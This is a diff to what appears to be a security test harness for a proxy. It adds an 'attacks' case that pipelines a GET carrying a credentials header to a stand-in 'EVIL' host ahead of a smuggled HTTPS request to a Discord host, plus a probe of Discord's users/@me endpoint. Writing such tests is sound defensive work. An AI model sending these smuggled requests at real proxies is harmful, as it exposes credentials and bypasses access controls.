@@ -90,6 +90,13 @@ def asked(request: str, patience: float = 10) -> Result:
         return sent(read(connection))
 
 
+def second_encrypted() -> Result:
+    """A request for TLS that the proxy is to make, behind one that is in order."""
+    first = f"GET http://{EVIL}/standin/echo HTTP/1.1\r\nHost: {EVIL}\r\n{CREDENTIALS}\r\n\r\n"
+    second = f"GET https://{DISCORD}/standin/echo HTTP/1.1\r\nHost: {DISCORD}\r\nConnection: close\r\n\r\n"
+    return asked(first + second)
+
+
 def abroad(authority: str) -> Result:
     """A tunnel to where only this machine should get; whatever is there speaks first."""
     with dial(authority) as connection:
@@ -323,6 +330,8 @@ def attacks() -> dict[str, Callable[[], Result]]:
         "clear: in a tunnel": lambda: sent(clear(f"{DISCORD}:443", get(DISCORD))),
         "clear: in a tunnel to port 80": lambda: sent(clear(f"{DISCORD}:80", get(DISCORD))),
         "clear: https in absolute form": lambda: sent(absolute(f"https://{DISCORD}/standin/echo", DISCORD)),
+        "clear: https after http": second_encrypted,
+        "clear: answer": lambda: sent(absolute(f"http://{DISCORD}/api/v10/users/@me", DISCORD, "")),
         "proxy: no password": lambda: with_password(""),
         "proxy: wrong password": lambda: with_password("authsome:guess"),
         "proxy: wrong user": lambda: with_password(f"other:{PROXY.password}"),
